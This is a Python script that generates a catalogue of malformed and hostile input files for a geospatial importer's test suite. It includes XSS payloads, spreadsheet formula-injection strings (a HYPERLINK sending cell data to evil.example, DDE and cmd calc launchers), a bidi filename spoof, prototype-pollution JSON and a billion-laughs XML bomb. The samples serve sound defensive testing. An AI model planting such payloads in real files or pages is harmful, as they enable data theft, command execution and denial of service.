"""Write the catalogue of bad, hostile and awkward input files used by tests/test_bad_inputs.py.

Run ``.venv/bin/python tests/data/make_catalogue.py`` from the repository root; it rewrites every
file of the catalogue in ``tests/data/`` and is deterministic (fixed seeds, fixed timestamps in
the .xlsx and .gpkg files), so a second run changes nothing (``git status`` stays clean on the
same library versions). All content is made up here (CC0); names of real firms are used only as
plain labels. See ``tests/data/README.md`` for what each file is and what is expected.
"""

from __future__ import annotations

import codecs
import gzip
import io
import json
import random
import re
import sqlite3
import struct
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIXED_TIME = (2024, 5, 1, 0, 0, 0)

# Dongsheng Building (东升大厦), WGS-84, and the same point in GCJ-02 (AMap) and BD-09 (Baidu).
DONGSHENG = (39.992446, 116.327708)
DONGSHENG_GCJ02 = (39.99376021503552, 116.33385185880293)

GOOD_ROWS = [
    ("zhipu", "智谱AI", "large_models", "firm", 39.9927, 116.3252),
    ("tsinghua", "清华大学", "research", "university", 40.0003, 116.3269),
    ("dongsheng", "东升大厦", "incubation", "landmark", 39.992446, 116.327708),
]

HOSTILE = {
    "script": '<script>alert("x")</script>',
    "img": "<img src=x onerror=alert(document.cookie)>",
    "template": "`whoami` ${7*7} {{7*7}} #{7*7}",
    "quotes": "He said \"hi\" and 'bye'; O'Brien",
    "newlines": "line one\nline two\r\nline three",
    "formula_eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1,2)",
    "formula_fullwidth": "＝1+1",
    "dde": "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "html_entities": "&lt;b&gt; &amp; <b>bold</b> &#x3C;i&#x3E;",
    "bidi": "invoice\u202etxt.exe",
    "null_words": "None",
    "nan_word": "nan",
    "json_like": '{"__proto__": {"polluted": true}}',
    "long": "长" * 3000,
}
"""Hostile or tricky texts: each must load unchanged and show as text everywhere."""


def _w(name: str, data: bytes | str, encoding: str = "utf-8") -> None:
    raw = data.encode(encoding) if isinstance(data, str) else data
    (HERE / name).write_bytes(raw)


def _csv(rows: list[tuple[object, ...]], header: str = "id,name,sector,kind,lat,lon") -> str:
    return header + "\n" + "".join(",".join(map(str, r)) + "\n" for r in rows)


def _fixed_zip(data: bytes) -> bytes:
    """Rewrite a ZIP (an .xlsx) with fixed timestamps, so the bytes are reproducible."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                body = re.sub(rb"(<dcterms:(created|modified)[^>]*>)[^<]*", rb"\g<1>2024-05-01T"
                              rb"00:00:00Z", body)
            fixed = zipfile.ZipInfo(info.filename, FIXED_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = 0o600 << 16
            dst.writestr(fixed, body)
    return out.getvalue()


def _xlsx(name: str, sheets: dict[str, list[list[object]]]) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        ws = book.create_sheet(title)
        for row in rows:
            ws.append(row)
    buf = io.BytesIO()
    book.save(buf)
    _w(name, _fixed_zip(buf.getvalue()))


def _zip(name: str, members: dict[str, bytes]) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for member, body in members.items():
            info = zipfile.ZipInfo(member, FIXED_TIME)
            info.external_attr = 0o600 << 16
            zf.writestr(info, body)
    _w(name, out.getvalue())


def _geojson(features: list[dict[str, object]], crs: str | None = None) -> str:
    doc: dict[str, object] = {"type": "FeatureCollection", "features": features}
    if crs:
        doc["crs"] = {"type": "name", "properties": {"name": crs}}
    return json.dumps(doc, ensure_ascii=False, indent=1)


def _feature(props: dict[str, object], geometry: dict[str, object] | None) -> dict[str, object]:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def _point(x: float, y: float) -> dict[str, object]:
    return {"type": "Point", "coordinates": [x, y]}


def _png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(
            ">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def encodings() -> None:
    """UTF-8, UTF-8 with BOM, GBK, GB18030, UTF-16, and text in no encoding we accept."""
    text = _csv(list(GOOD_ROWS))
    _w("utf8.csv", text)
    _w("utf8_bom.csv", codecs.BOM_UTF8 + text.encode("utf-8"))
    _w("gbk.csv", text, "gbk")
    gb = text + "yoshinoya,𠮷野家（五道口店）,services,firm,39.9925,116.3380\n"
    _w("gb18030.csv", gb, "gb18030")  # 𠮷 is not in GBK: a 4-byte GB18030 character
    tab = text.replace(",", "\t").replace("\n", "\r\n")
    _w("utf16_excel_unicode_text.txt", codecs.BOM_UTF16_LE + tab.encode("utf-16-le"))
    _w("bad_encoding.csv", b"id,name,lat,lon\na,\xff\xfe\xfa\x80\x81,39.99,116.33\n")
    latin = ("id,name,address,lat,lon\n"
             "a,Müller Technik,Zürichstraße 4,39.99,116.33\n"
             "b,Hôtel Français,Düsseldorf Königsallee,39.98,116.32\n"
             "c,Bäckerei Möller,Königsallee 1,39.97,116.31\n")
    _w("latin1.csv", latin, "latin-1")
    latin.encode("latin-1").decode("gb18030")  # valid GB18030 by accident: the hard case
    big5 = ("id,name,address,lat,lon\n"
            "a,臺灣積體電路製造,新竹科學園區,24.7736,121.0134\n"
            "b,鴻海精密工業,新北市土城區,24.9725,121.4431\n")
    _w("big5.csv", big5, "big5")


def excel() -> None:
    """Workbooks: several sheets, formulas, an empty sheet, a damaged one."""
    head = ["id", "名称", "行业", "kind", "纬度", "经度"]
    firms = [head] + [list(r) for r in GOOD_ROWS]
    more = [head, ["m1", "百川智能", "large_models", "firm", 39.9860, 116.3100],
            ["m2", "面壁智能", "large_models", "firm", 39.9905, 116.3310]]
    _xlsx("firms.xlsx", {"firms": firms, "notes": [["note"], ["made by make_catalogue.py"]],
                         "more": more})
    _xlsx("formulas.xlsx", {"places": [
        ["id", "name", "address", "sector", "lat", "lon"],
        ["f1", HOSTILE["formula_eq"], "=1+1", "chips", 39.99, 116.33],
        ["f2", "=cmd|' /C calc'!A0", "@SUM(A1:A2)", "chips", 39.98, 116.32],
    ]})
    _xlsx("empty_first_sheet.xlsx", {"empty": [], "firms": firms})
    _zip("corrupt.xlsx", {"xl/workbook.xml": b"<not really a workbook", "junk.bin": b"\x00" * 64})
    entities = "".join(f'<!ENTITY l{i + 1} "{f"&l{i};" * 10}">' for i in range(9))
    bomb = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">' + entities + ']><worksheet '
            'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData>'
            "</worksheet>").encode()
    with zipfile.ZipFile(HERE / "firms.xlsx") as src:
        members = {i.filename: src.read(i.filename) for i in src.infolist()}
    members["xl/worksheets/sheet1.xml"] = bomb  # a billion laughs
    _zip("xml_bomb.xlsx", members)


def structure() -> None:
    """Empty, header only, missing columns, odd columns and separators, broken rows."""
    _w("empty.csv", b"")
    _w("whitespace_only.csv", "\n  \n\t\n")
    _w("header_only.csv", "id,name,lat,lon\n")
    _w("no_coordinates.csv", "id,name,address\na,Foo,Somewhere\n")
    _w("title_row.csv", "企业名单导出 2024-05-01\nid,name,lat,lon\na,Foo,39.99,116.33\n")
    _w("extra_and_duplicate_columns.csv",
       "id,name,lat,lon,lat,employees,website,\n"
       "a,Foo,39.99,116.33,0,12,http://foo.example,\n"
       "b,Bar,39.98,116.32,0,007,,\n")
    _w("latitude_and_lat.csv", "latitude,lat,lon\n39.99,1,116.33\n")
    _w("semicolon_decimal_comma.csv",
       "id;name;lat;lon\na;Foo;39,9927;116,3252\nb;Bar;39.98;116.32\n")
    _w("tab_separated.tsv", _csv(list(GOOD_ROWS)).replace(",", "\t"))
    _w("pipe_separated.txt", _csv(list(GOOD_ROWS)).replace(",", "|"))
    _w("ragged_rows.csv", "id,name,lat,lon\na,Foo,39.99,116.33\nb,Bar, Inc.,39.98,116.32\n"
                          "c,Baz,39.97,116.31\n")
    _w("trailing_separators.csv", "id,name,lat,lon\na,Foo,39.99,116.33,\nb,Bar,39.98,116.32,\n")
    _w("unclosed_quote.csv", 'id,name,lat,lon\na,Foo,39.99,116.33\nb,"Bar,39.98,116.32\n'
                             "c,Baz,39.97,116.31\n")
    _w("blank_lines.csv", "id,lat,lon\na,39.99,116.33\n\nb,39.98,116.32\nc,oops,116.31\n\n\n")
    _w("column_named_row.csv", "row,id,lat,lon\n7,a,39.99,116.33\n8,b,x,116.32\n")
    _w("geometry_column.csv", "id,geometry,lat,lon\na,POINT (116.33 39.99),39.99,116.33\n")
    _w("sniffer_bomb.csv", ',"a' * 40_000 + "\n")  # csv.Sniffer is quadratic on this line


def json_files() -> None:
    """Broken JSON, JSON that is not GeoJSON, shapes, CRS members, null geometry."""
    _w("malformed.geojson", '{"type": "FeatureCollection",\n "features": [,]}')
    _w("array.json", json.dumps([{"lat": 39.99, "lon": 116.33}]))
    _w("not_geojson.json", json.dumps({"places": [{"lat": 39.99}]}))
    _w("deep_nesting.json", "[" * 100_000 + "]" * 100_000)
    shapes = [
        _feature({"name": "point", "sector": "chips"}, _point(116.3300, 39.9900)),
        _feature({"name": "campus polygon", "sector": "research"}, {"type": "Polygon",
                 "coordinates": [[[116.30, 39.99], [116.31, 39.99], [116.31, 40.00],
                                  [116.30, 40.00], [116.30, 39.99]]]}),
        _feature({"name": "street line", "sector": "public"}, {"type": "LineString",
                 "coordinates": [[116.32, 39.98], [116.34, 39.98]]}),
    ]
    _w("polygons_and_lines.geojson", _geojson(shapes))
    from pyproj import Transformer

    lat, lon = DONGSHENG
    for fname, crs in (("crs_epsg3857.geojson", "EPSG:3857"),
                       ("crs_utm50n.geojson", "urn:ogc:def:crs:EPSG::32650")):
        x, y = Transformer.from_crs("EPSG:4326", crs, always_xy=True).transform(lon, lat)
        _w(fname, _geojson([_feature({"name": "Dongsheng"}, _point(round(x, 3), round(y, 3)))],
                           crs))
    _w("crs_crs84.geojson", _geojson([_feature({"name": "Dongsheng"}, _point(lon, lat))],
                                     "urn:ogc:def:crs:OGC:1.3:CRS84"))
    _w("crs_unknown.geojson", _geojson([_feature({"name": "x"}, _point(1, 2))], "EPSG:999999"))
    _w("crs_malformed.geojson", json.dumps({"type": "FeatureCollection", "crs": {
        "type": "name", "properties": ["EPSG:3857"]}, "features": [
        _feature({"name": "x"}, _point(lon, lat))]}))
    _w("null_geometry.geojson", _geojson([_feature({"name": "ok"}, _point(lon, lat)),
                                          _feature({"name": "no shape"}, None)]))
    _w("hostile.geojson", _geojson([
        _feature({"id": key, "name": text, "address": text, "source": text, "sector": "chips"},
                 _point(116.33, 39.99)) for key, text in HOSTILE.items()]))


def geopackages() -> None:
    """GeoPackages with two layers, with a table without geometry; an SQLite that is not one."""
    import geopandas as gpd
    import pandas as pd
    import pyogrio
    from shapely import Point

    pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": "2024-05-01T00:00:00Z"})
    for fname in ("two_layers.gpkg", "attributes_only.gpkg", "sqlite_not_geopackage.gpkg"):
        (HERE / fname).unlink(missing_ok=True)
    first = gpd.GeoDataFrame({"name": ["a"], "sector": ["chips"]},
                             geometry=[Point(116.33, 39.99)], crs=4326)
    second = gpd.GeoDataFrame({"name": ["b1", "b2"], "sector": ["research", "research"]},
                              geometry=[Point(116.32, 39.98), Point(116.31, 39.97)], crs=4326)
    first.to_file(HERE / "two_layers.gpkg", layer="first", driver="GPKG")
    second.to_file(HERE / "two_layers.gpkg", layer="second", driver="GPKG")
    pyogrio.write_dataframe(pd.DataFrame({"name": ["t"], "lat": [39.99], "lon": [116.33]}),
                            HERE / "attributes_only.gpkg", layer="table", driver="GPKG")
    with sqlite3.connect(HERE / "sqlite_not_geopackage.gpkg") as db:
        db.execute("CREATE TABLE places (name TEXT, lat REAL, lon REAL)")
        db.execute("INSERT INTO places VALUES ('a', 39.99, 116.33)")
    db.close()


def not_what_they_say() -> None:
    """Files whose content is not what their name says."""
    _w("binary_junk.csv", random.Random(4).randbytes(4096))
    _w("png_named.csv", _png())
    _zip("zip_named.csv", {"places.csv": _csv(list(GOOD_ROWS)).encode()})
    _w("gzip_named.csv", gzip.compress(_csv(list(GOOD_ROWS)).encode(), mtime=0))
    _w("old_excel.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    _w("html_page.csv", "<!DOCTYPE html>\n<html><body><h1>Please log in</h1></body></html>\n")
    _w("xlsx_named.csv", (HERE / "firms.xlsx").read_bytes())
    _w("csv_named.xlsx", _csv(list(GOOD_ROWS)))
    _w("kml_named.csv", '<?xml version="1.0"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"/>\n')


def values() -> None:
    """Bad coordinates, DMS, far points, duplicates, unknown sectors, datums, partial files."""
    _w("bad_coordinates.csv", "id,name,sector,lat,lon\n"
       "ok,Zhipu,large_models,39.9927,116.3252\n"
       "blank,Blank latitude,chips,,116.33\n"
       "nan,NaN latitude,chips,NaN,116.33\n"
       "text,Text longitude,chips,39.99,east\n"
       "lat95,Latitude 95,chips,95.0,116.33\n"
       "lon200,Longitude 200,chips,39.99,200.5\n"
       "swapped,Swapped,chips,116.3252,39.9927\n"
       "dms,DMS,chips,\"39°59'32.8\"\"N\",\"116°19'39.7\"\"E\"\n"
       "dms_zh,DMS in Chinese,chips,39度59分32.8秒,116度19分39.7秒\n"
       "dms_bad,Minutes over 59,chips,39°75',116.33\n"
       "metres,Projected metres,chips,4427000,443000\n")
    _w("far_points.csv", "id,name,lat,lon\nnear,Near,39.99,116.33\n"
       "shanghai,Shanghai,31.2304,121.4737\nnyc,New York,40.7128,-74.0060\n")
    _w("duplicate_ids.csv", "id,name,lat,lon\na,First,39.99,116.33\nb,Other,39.98,116.32\n"
       "a,Second a,39.97,116.31\n")
    _w("unknown_sectors.csv", "id,name,sector,kind,lat,lon\na,Foo,large_models,firm,39.99,116.33\n"
       "b,Bar,robots,firm,39.98,116.32\nc,Baz,Large models,spaceship,39.97,116.31\n")
    glat, glon = DONGSHENG_GCJ02
    _w("gcj02_amap.csv", f"id,name,lat,lon\ndongsheng,东升大厦 (AMap),{glat},{glon}\n")
    _w("partially_bad.csv", "id,name,lat,lon\n" + "".join(
        f"p{i},Place {i},{'bad' if i in (3, 7) else 39.99 - i / 1000},"
        f"{'' if i == 9 else 116.33}\n" for i in range(1, 11)))


def hostile() -> None:
    """Hostile texts in every text column of a CSV and a workbook."""
    import csv

    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["id", "name", "address", "source", "sector", "lat", "lon",
                     "=HYPERLINK(\"x\")", "<b>note</b>"])
    for i, (key, text) in enumerate(HOSTILE.items()):
        lon = -74.006 if key == "formula_minus" else 116.33
        writer.writerow([key, text, text, text, "chips", round(39.99 - i / 1000, 6), lon, text,
                         text])
    writer.writerow(["=1+2", "id is a formula", "", "", "chips", 39.97, 116.33, "-1", "+1"])
    _w("hostile.csv", buf.getvalue())
    rows: list[list[object]] = [["id", "name", "address", "source", "sector", "lat", "lon"]]
    rows += [[k, t, t, t, "chips", 39.99, 116.33] for k, t in HOSTILE.items()]
    _xlsx("hostile.xlsx", {"places": rows})


def main() -> None:
    """Write every file of the catalogue."""
    encodings()
    excel()
    structure()
    json_files()
    geopackages()
    not_what_they_say()
    values()
    hostile()


if __name__ == "__main__":
    main()
